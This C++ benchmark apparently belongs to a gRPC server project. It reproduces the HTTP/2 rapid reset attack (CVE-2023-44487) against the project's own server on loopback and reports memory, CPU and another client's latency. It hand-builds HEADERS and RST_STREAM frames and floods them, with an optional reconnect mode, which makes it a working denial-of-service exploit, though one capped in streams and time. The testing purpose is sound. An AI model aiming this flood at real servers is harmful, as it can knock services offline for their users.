// HTTP/2 rapid reset (CVE-2023-44487) against a real jobwired (issue #27):
// one raw TCP connection sends HEADERS + RST_STREAM pairs for Health/Check
// (open without a token) as fast as the socket takes them, while another
// client measures Health/Check latency on its own connection. Reports the
// server's RSS (idle, peak, after), its CPU during and after the attack, and
// the other client's latency percentiles. Loopback only; bounded in streams
// and time. With --reconnect the attacker opens a new connection each time
// the server closes one, until the streams or the time run out.
//
//   rapid_reset_bench [--streams N] [--seconds S] [--reconnect]
//                     [-- JOBWIRED_FLAGS...]
#include <arpa/inet.h>
#include <grpcpp/grpcpp.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "grpc/health/v1/health.grpc.pb.h"
#include "tests/jobwired_process.h"
#include "tools/bench/machine.h"

namespace {

using jobwire::test::JobwiredProcess;

// VmRSS or VmHWM of `pid` in MiB; -1 when unreadable.
double MemoryMiB(int pid, const char* field) {
  const std::string status =
      jobwire::test::ReadWholeFile(absl::StrCat("/proc/", pid, "/status"));
  const size_t at = status.find(field);
  if (at == std::string::npos) return -1;
  return std::strtod(status.c_str() + at + std::strlen(field) + 1, nullptr) /
         1024.0;
}

void AppendFrame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream,
                 const std::string& payload) {
  const uint32_t len = payload.size();
  out->push_back(static_cast<char>(len >> 16));
  out->push_back(static_cast<char>(len >> 8));
  out->push_back(static_cast<char>(len));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  out->push_back(static_cast<char>((stream >> 24) & 0x7f));
  out->push_back(static_cast<char>(stream >> 16));
  out->push_back(static_cast<char>(stream >> 8));
  out->push_back(static_cast<char>(stream));
  out->append(payload);
}

// HPACK literal without indexing, new name.
void AppendHeader(std::string* block, const std::string& name,
                  const std::string& value) {
  block->push_back(0x00);
  block->push_back(static_cast<char>(name.size()));
  block->append(name);
  block->push_back(static_cast<char>(value.size()));
  block->append(value);
}

}  // namespace

int main(int argc, char** argv) {
  int streams = 200000;
  int seconds = 30;
  bool reconnect = false;
  // A write to a connection the server closed fails instead of killing us.
  ::signal(SIGPIPE, SIG_IGN);
  std::vector<std::string> server_flags;
  for (int i = 1; i < argc; ++i) {
    std::string arg = argv[i];
    if (arg == "--") {
      server_flags.assign(argv + i + 1, argv + argc);
      break;
    }
    if (arg == "--streams" && i + 1 < argc) {
      (void)absl::SimpleAtoi(argv[++i], &streams);
    } else if (arg == "--reconnect") {
      reconnect = true;
    } else if (arg == "--seconds" && i + 1 < argc) {
      (void)absl::SimpleAtoi(argv[++i], &seconds);
    } else {
      std::fprintf(stderr,
                   "usage: rapid_reset_bench [--streams N] [--seconds S] "
                   "[--reconnect] [-- JOBWIRED_FLAGS...]\n");
      return 2;
    }
  }
  const std::string dir = jobwire::test::MakeTempDir("jobwire-rapid-reset");
  std::vector<std::string> args = {"--listen", "127.0.0.1:0", "--db",
                                   "var/j.db"};
  args.insert(args.end(), server_flags.begin(), server_flags.end());
  JobwiredProcess server(dir, args);
  std::vector<std::string> addresses = server.WaitListening(1);
  if (addresses.size() != 1) {
    std::fprintf(stderr, "jobwired did not start:\n%s\n", server.log().c_str());
    return 1;
  }
  const std::string target = addresses[0];
  const int port = std::atoi(target.substr(target.rfind(':') + 1).c_str());
  absl::SleepFor(absl::Milliseconds(500));
  const double idle_rss = MemoryMiB(server.pid(), "VmRSS:");

  // The other client: Health/Check in a loop on its own connection.
  std::atomic<bool> stop{false};
  std::vector<double> latencies_ms;
  int failures = 0;
  std::thread prober([&] {
    grpc::ChannelArguments channel_args;
    channel_args.SetInt(GRPC_ARG_USE_LOCAL_SUBCHANNEL_POOL, 1);
    auto stub = grpc::health::v1::Health::NewStub(grpc::CreateCustomChannel(
        target, grpc::InsecureChannelCredentials(), channel_args));
    while (!stop.load()) {
      grpc::ClientContext context;
      context.set_deadline(absl::ToChronoTime(absl::Now() + absl::Seconds(10)));
      grpc::health::v1::HealthCheckResponse response;
      const absl::Time start = absl::Now();
      if (stub->Check(&context, {}, &response).ok()) {
        latencies_ms.push_back(absl::ToDoubleMilliseconds(absl::Now() - start));
      } else {
        ++failures;
      }
      absl::SleepFor(absl::Milliseconds(10));
    }
  });
  std::atomic<double> peak_rss{idle_rss};
  std::thread sampler([&] {
    while (!stop.load()) {
      const double rss = MemoryMiB(server.pid(), "VmRSS:");
      if (rss > peak_rss.load()) peak_rss.store(rss);
      absl::SleepFor(absl::Milliseconds(50));
    }
  });

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  std::string block;
  block.push_back(static_cast<char>(0x83));  // :method POST
  block.push_back(static_cast<char>(0x86));  // :scheme http
  AppendHeader(&block, ":path", "/grpc.health.v1.Health/Check");
  AppendHeader(&block, ":authority", "localhost");
  AppendHeader(&block, "content-type", "application/grpc");
  AppendHeader(&block, "te", "trailers");
  const std::string cancel("\0\0\0\x08", 4);
  const double cpu_before = jobwire::bench::ProcessCpuSeconds(server.pid());
  const absl::Time attack_start = absl::Now();
  const absl::Time attack_deadline = attack_start + absl::Seconds(seconds);
  int sent = 0;
  int connections = 0;
  bool write_failed = false;
  while (sent < streams && absl::Now() < attack_deadline) {
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
      std::perror("connect");
      ::close(fd);
      break;
    }
    ++connections;
    // Drain what the server sends so it never blocks on us.
    std::thread drain([fd] {
      char buf[65536];
      while (::read(fd, buf, sizeof(buf)) > 0) {
      }
    });
    std::string out = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    AppendFrame(&out, 0x4, 0, 0, "");  // SETTINGS
    write_failed = false;
    for (uint32_t id = 1; sent < streams && absl::Now() < attack_deadline;
         id += 2) {
      AppendFrame(&out, 0x1, 0x4, id, block);  // HEADERS, END_HEADERS
      AppendFrame(&out, 0x3, 0, id, cancel);   // RST_STREAM CANCEL
      ++sent;
      if (out.size() >= 64 * 1024 || sent == streams) {
        size_t off = 0;
        while (off < out.size()) {
          const ssize_t n = ::write(fd, out.data() + off, out.size() - off);
          if (n <= 0) {
            write_failed = true;
            break;
          }
          off += static_cast<size_t>(n);
        }
        out.clear();
        if (write_failed) break;
      }
    }
    ::shutdown(fd, SHUT_RDWR);
    ::close(fd);
    drain.join();
    if (!write_failed || !reconnect) break;
  }
  const absl::Duration attack = absl::Now() - attack_start;
  const double cpu_attack =
      jobwire::bench::ProcessCpuSeconds(server.pid()) - cpu_before;
  // After the attacker left: CPU in the next 2 s, then RSS.
  const double cpu_left = jobwire::bench::ProcessCpuSeconds(server.pid());
  absl::SleepFor(absl::Seconds(2));
  const double cpu_after =
      jobwire::bench::ProcessCpuSeconds(server.pid()) - cpu_left;
  absl::SleepFor(absl::Seconds(3));
  stop.store(true);
  prober.join();
  sampler.join();
  const double after_rss = MemoryMiB(server.pid(), "VmRSS:");
  const double hwm = MemoryMiB(server.pid(), "VmHWM:");
  std::sort(latencies_ms.begin(), latencies_ms.end());
  auto pct = [&](double p) {
    if (latencies_ms.empty()) return -1.0;
    return latencies_ms[std::min(latencies_ms.size() - 1,
                                 static_cast<size_t>(p * latencies_ms.size()))];
  };
  std::printf(
      "machine: %s; load %s\n"
      "jobwired flags:%s\n"
      "streams sent: %d in %.1f s on %d connection(s)%s\n"
      "server RSS MiB: idle %.0f, peak %.0f (VmHWM %.0f), 5 s after %.0f\n"
      "server CPU s: during attack %.1f, in the 2 s after it %.2f\n"
      "other client Health/Check: %zu ok, %d failed; p50 %.1f ms, p99 %.1f "
      "ms, max %.1f ms\n",
      jobwire::bench::MachineDescription().c_str(),
      jobwire::bench::LoadAverage().c_str(),
      [&] {
        std::string f;
        for (const std::string& s : server_flags) absl::StrAppend(&f, " ", s);
        return f;
      }()
          .c_str(),
      sent, absl::ToDoubleSeconds(attack), connections,
      write_failed ? " (server closed the last one)" : "", idle_rss,
      peak_rss.load(), hwm, after_rss, cpu_attack, cpu_after,
      latencies_ms.size(), failures, pct(0.5), pct(0.99),
      latencies_ms.empty() ? -1.0 : latencies_ms.back());
  server.Signal(SIGKILL);
  jobwire::test::RemoveDir(dir);
  return 0;
}
